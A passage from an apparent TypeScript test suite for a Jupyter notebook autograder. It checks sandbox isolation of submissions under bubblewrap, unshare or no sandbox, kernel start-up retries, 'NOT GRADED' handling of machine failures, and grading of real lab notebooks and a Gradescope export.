      csv.find((l) => l.startsWith('key-namespace,')),
    );
    console.log(`      (${hashes.size} submissions in ${seconds.toFixed(1)} s with 2 jobs)`);
  });
});

for (const kind of ['unshare', 'none'] as const) {
  describe(`grading: the same hostile batch under ${kind}`, function () {
    this.timeout(15 * 60 * 1000);
    let graded: GradedBatch;

    before(async function () {
      await requireSandbox(this, kind);
      if (!underBubblewrap) this.skip();
      graded = await gradeHostileBatch(kind);
    });

    it('gives every submission the score it gets under bubblewrap', () => {
      const differ = [...underBubblewrap!.results]
        .filter(([name, r]) => graded.results.get(name)?.score !== r.score)
        .map(([name, r]) => `${name}: ${graded.results.get(name)?.score} here, ${r.score} under bubblewrap`);
      assert.deepStrictEqual(differ, []);
      for (const [name, r] of graded.results) assert.deepStrictEqual(validateResults(r), [], name);
    });

    it('says in every results.json which sandbox ran it and what it did not contain', () => {
      for (const [name, r] of graded.results) {
        if (!r.tests.length) continue; // the grader failed before sandboxing (none of these)
        assert.strictEqual(r.extra_data.sandbox_kind, kind, name);
        assert.ok(
          (r.extra_data.not_contained as string[]).some((c) => c.startsWith('files')),
          name,
        );
        assert.match(
          r.output,
          kind === 'none'
            ? /Warning: this submission was graded WITHOUT a sandbox/
            : /graded without file isolation \(unshare/,
          name,
        );
      }
    });

    it(
      kind === 'none'
        ? 'contains nothing, and says so'
        : "keeps the network (its loopback brought up for the kernel) and the project's folder out, not the machine's files",
      () => {
        const executed = fs.readFileSync(path.join(graded.out, 'files-and-network', 'executed.ipynb'), 'utf8');
        // The source lies in the project's folder (test-artifacts/), which unshare's mount namespace hides.
        assert.match(executed, kind === 'none' ? /read source: ALLOWED/ : /read source: blocked/);
        assert.match(executed, kind === 'none' ? /network: ALLOWED/ : /network: blocked/);
        assert.strictEqual(graded.hits.length, kind === 'none' ? 1 : 0, graded.hits.join(', '));
        assert.ok(
          (graded.results.get('files-and-network')!.extra_data.not_contained as string[]).some((c) =>
            c.startsWith('the network'),
          ) ===
            (kind === 'none'),
        );
      },
    );
  });
}

describe('grading: a machine with neither namespace tool (as on macOS)', function () {
  this.timeout(5 * 60 * 1000);

  it('grades with no sandbox, says so on the command line and in results.json, and scores the same', () => {
    const root = path.join(WORK, 'no-namespaces');
    fs.rmSync(root, { recursive: true, force: true });
    const bin = path.join(root, 'bin');
    fs.mkdirSync(bin, { recursive: true });
    // PATH holds Jupyter and nothing else: no bwrap, no unshare, no prlimit.
    fs.symlinkSync(findJupyter()!, path.join(bin, 'jupyter'));
    writeNotebook(path.join(root, 'mini-source.ipynb'), miniLab());
    writeNotebook(path.join(root, 'alice.ipynb'), studentWith({ square: SQUARE, mean: MEAN, kl: klWith(KL_BODY) }));
    const cli = path.join(ROOT, 'dist', 'grading', 'cli.js');
    const r = spawnSync(
      process.execPath,
      [
        cli,
        'autograde',
        path.join(root, 'alice.ipynb'),
        '--source',
        path.join(root, 'mini-source.ipynb'),
        '--out',
        path.join(root, 'out'),
      ],
      {
        encoding: 'utf8',
        env: { ...process.env, PATH: bin },
        timeout: 240000,
      },
    );
    assert.strictEqual(r.status, 0, r.stdout + r.stderr);
    assert.match(r.stdout, /sandbox bubblewrap passed over: bwrap is not installed/);
    assert.match(r.stdout, /sandbox unshare passed over: unshare is not installed/);
    assert.match(r.stderr, /warning: grading WITHOUT a sandbox/);
    assert.match(r.stdout, /Score: 9 \/ 9 points/);
    const results = JSON.parse(fs.readFileSync(path.join(root, 'out', 'results.json'), 'utf8')) as Results;
    assert.strictEqual(results.extra_data.sandbox_kind, 'none');
    assert.match(results.output, /Warning: this submission was graded WITHOUT a sandbox/);
    assert.ok(
      (results.extra_data.not_contained as string[]).includes('memory beyond the JS heap limit (prlimit is missing)'),
    );
  });
});

describe('grading: a kernel that does not start is tried again, and a machine that cannot start one grades nothing', function () {
  this.timeout(5 * 60 * 1000);
  const root = path.join(WORK, 'kernel-start');
  const tslab = path.join(ROOT, 'node_modules', 'tslab', 'bin', 'tslab');

  /** A kernelspec `name` in `root`/kernels whose start runs the shell `script` ($0 is the connection file). */
  function kernelSpec(name: string, script: string): void {
    const dir = path.join(root, 'kernels', name);
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(
      path.join(dir, 'kernel.json'),
      JSON.stringify({
        argv: ['/bin/sh', '-c', script, '{connection_file}'],
        display_name: name,
        language: 'typescript',
      }),
    );
  }

  /** run_graded.py, as the runner calls it, with one cell and the kernel `kernel`. */
  function runGradedPy(kernel: string, startup: { timeout: number; attempts: number }): Record<string, unknown> {
    const request = {
      notebook: {
        cells: [
          {
            cell_type: 'code',
            id: 'c',
            metadata: {},
            source: "console.log('hello from the kernel');",
            outputs: [],
            execution_count: null,
          },
        ],
        metadata: {},
        nbformat: 4,
        nbformat_minor: 5,
      },
      kernel,
      cell_timeout: 60,
      total_timeout: 120,
      startup_timeout: startup.timeout,
      startup_attempts: startup.attempts,
      cwd: root,
    };
    const r = spawnSync(jupyterPython()!, [path.join(ROOT, 'grading', 'run_graded.py')], {
      input: JSON.stringify(request),
      encoding: 'utf8',
      env: { ...process.env, JUPYTER_PATH: root, JUPYTER_RUNTIME_DIR: path.join(root, 'runtime') },
      timeout: 240000,
    });
    assert.strictEqual(r.status, 0, r.stderr);
    return JSON.parse(r.stdout.trim().split('\n').pop()!) as Record<string, unknown>;
  }

  const pidsIn = (file: string) => fs.readFileSync(file, 'utf8').trim().split('\n').map(Number);
  const alive = (pid: number) => {
    try {
      process.kill(pid, 0);
      return true;
    } catch {
      return false;
    }
  };

  before(function () {
    if (!jupyterPython()) this.skip();
    fs.rmSync(root, { recursive: true, force: true });
    fs.mkdirSync(root, { recursive: true });
  });

  it('runs the cells in a second kernel when the first never answers, and ends the first', () => {
    const mark = path.join(root, 'first-start.pid');
    // The first start is alive and silent, as a kernel that missed its start-up timeout; the second is tslab.
    kernelSpec(
      'genlab-silent-once',
      `if [ -e ${mark} ]; then exec ${process.execPath} ${tslab} kernel --config-path "$0"; else echo $$ > ${mark}; exec sleep 600; fi`,
    );
    const out = runGradedPy('genlab-silent-once', { timeout: 8, attempts: 3 });
    assert.strictEqual(out.failure, undefined, String(out.failure));
    const [cell] = out.cells as { status: string; stdout: string }[];
    assert.strictEqual(cell.status, 'ok');
    assert.match(cell.stdout, /hello from the kernel/);
    assert.deepStrictEqual(
      (out.startup_failures as string[]).map((f) => /didn't respond in 8 seconds/.test(f)),
      [true],
      String(out.startup_failures),
    );
    assert.ok(!alive(pidsIn(mark)[0]), 'the silent first kernel was left running');
  });

  it("gives up after the last try, as the grading machine's fault, and leaves no kernel behind", () => {
    const pids = path.join(root, 'silent.pids');
    kernelSpec('genlab-silent', `echo $$ >> ${pids}; exec sleep 600`);
    const out = runGradedPy('genlab-silent', { timeout: 3, attempts: 2 });
    assert.strictEqual(out.grader_fault, true);
    assert.match(
      String(out.failure),
      /^the kernel did not start or could not be reached \(2 tries: RuntimeError: Kernel didn't respond in 3 seconds; RuntimeError: Kernel didn't respond in 3 seconds\)/,
    );
    assert.strictEqual(pidsIn(pids).length, 2);
    assert.deepStrictEqual(pidsIn(pids).filter(alive), [], 'a silent kernel was left running');
  });

  it('batch: a submission no kernel would grade is NOT GRADED (tried again after the rest), not given 0, and the command says to grade it again', function () {
    if (!findProgram('prlimit')) this.skip(); // the memory limit below is prlimit's
    const dir = path.join(root, 'submissions');
    fs.mkdirSync(dir, { recursive: true });
    writeNotebook(path.join(root, 'mini-source.ipynb'), miniLab());
    writeNotebook(path.join(dir, 'alice.ipynb'), studentWith({ square: SQUARE, mean: MEAN, kl: klWith(KL_BODY) }));
    const out = path.join(root, 'graded');
    // 48 MiB is too little for the runner and a kernel to start (RLIMIT_DATA; the sandbox probe has its own 2 GiB).
    const r = spawnSync(
      process.execPath,
      [
        path.join(ROOT, 'dist', 'grading', 'cli.js'),
        'batch',
        dir,
        '--source',
        path.join(root, 'mini-source.ipynb'),
        '--out',
        out,
        '--memory',
        '48',
      ],
      { encoding: 'utf8', timeout: 240000 },
    );
    assert.strictEqual(r.status, 3, r.stdout + r.stderr);
    // Graded in the batch and again after it; one line, printed when the second chance is done.
    const lines = r.stdout.match(/^alice: .*$/gm) ?? [];
    assert.strictEqual(lines.length, 1, r.stdout);
    assert.match(
      lines[0],
      /^alice: NOT GRADED \((The grader's runner stopped before a kernel was ready \(exit \d+; the sandbox's memory limit was 48 MiB, too little for the runner and a kernel\)|the kernel did not start or could not be reached \(3 tries: .*Kernel died).*\) \([\d.]+ s\)$/,
    );
    assert.match(
      r.stderr,
      /1 submission was NOT GRADED, twice, because the grading machine failed before their code ran .*: alice\. Grade it again\./,
    );
    const csv = fs.readFileSync(path.join(out, 'grades.csv'), 'utf8').trim().split('\n');
    assert.match(
      csv[1],
      /^alice,,,,,,,,"?NOT GRADED \(grade again\): (The grader's runner stopped|the kernel did not start)/,
    );
    const results = JSON.parse(fs.readFileSync(path.join(out, 'alice', 'results.json'), 'utf8')) as Results;
    assert.deepStrictEqual(validateResults(results), []);
    assert.match(results.output, /^NOT GRADED: the grading machine failed before any of this submission's code ran/);
    assert.match(String(results.extra_data.not_graded), /48 MiB|Kernel died/);
    assert.deepStrictEqual(results.extra_data.problems, [], 'a machine failure is not a problem of the submission');
    for (const t of results.tests)
      assert.match(t.output, /^Not graded: .*This is the grading machine's fault, not the submission's\.$/);
  });
});

describe('grading: the real labs', function () {
  this.timeout(15 * 60 * 1000);

  const labs = fs
    .readdirSync(path.join(ROOT, 'notebooks'))
    .filter(
      (f) =>
        /^\d\d-.*\.ipynb$/.test(f) &&
        readNotebook(path.join(ROOT, 'notebooks', f)).cells.some(
          (c) => c.metadata.nbgrader?.grade && !c.metadata.nbgrader?.solution,
        ),
    );
  it('there is at least one graded lab', () => assert.ok(labs.includes('03-vae.ipynb'), labs.join(', ')));
  for (const lab of labs) {
    it(`validate ${lab}: the solutions pass every test and the release fails every one`, async () => {
      const v = await validate(path.join(ROOT, 'notebooks', lab));
      assert.ok(v.ok, v.messages.join('\n'));
      assert.match(v.messages[0], /solutions pass (\d+)\/\1 tests; the release fails (\d+)\/\2/);
    });
  }

  it('the gradescope export runs autograde through run_autograder', async () => {
    const exportDir = path.join(WORK, 'gradescope');
    const files = exportGradescope(path.join(ROOT, 'notebooks', '03-vae.ipynb'), path.join(exportDir, 'source'));
    assert.ok(files.every((f) => fs.existsSync(f.replace(/\/$/, ''))));
    assert.ok(fs.statSync(path.join(exportDir, 'source', 'run_autograder')).mode & 0o100);
    // Run it against this project (already built) instead of the copy, which would need `npm ci`.
    fs.rmSync(path.join(exportDir, 'source', 'genlab'), { recursive: true });
    fs.symlinkSync(ROOT, path.join(exportDir, 'source', 'genlab'));
    fs.mkdirSync(path.join(exportDir, 'submission'), { recursive: true });
    writeNotebook(
      path.join(exportDir, 'submission', 'my-work.ipynb'),
      releaseNotebook(readNotebook(path.join(ROOT, 'notebooks', '03-vae.ipynb')), '03-vae'),
    );
    const r = spawnSync('bash', [path.join(exportDir, 'source', 'run_autograder')], {
      env: { ...process.env, AUTOGRADER_ROOT: exportDir },
      encoding: 'utf8',
      timeout: 300000,
    });
    assert.strictEqual(r.status, 0, r.stderr);
    const results = JSON.parse(fs.readFileSync(path.join(exportDir, 'results', 'results.json'), 'utf8'));
    assert.deepStrictEqual(validateResults(results), []);
    assert.strictEqual(results.score, 0);
    assert.strictEqual(results.tests.length, 4);
  });

  it('autograde the 03-vae solution through the CLI', () => {
    const out = path.join(WORK, 'cli');
    const r = spawnSync(
      process.execPath,
      [
        path.join(ROOT, 'dist', 'grading', 'cli.js'),
        'autograde',
        path.join(ROOT, 'notebooks', '03-vae.ipynb'),
        '--source',
        path.join(ROOT, 'notebooks', '03-vae.ipynb'),
        '--out',
        out,
      ],
      { encoding: 'utf8', timeout: 300000 },
    );
    assert.strictEqual(r.status, 0, r.stderr);
    assert.match(r.stdout, /Score: 9 \/ 9 points from 4 automatic tests \(4 passed\)/);
    const bad = spawnSync(
      process.execPath,
      [path.join(ROOT, 'dist', 'grading', 'cli.js'), 'autograde', 'x.ipynb', '--out', out],
      { encoding: 'utf8' },
    );
    assert.strictEqual(bad.status, 1);
    assert.match(bad.stderr, /^genlab-grade: missing --source <source.ipynb>\./);
  });
});
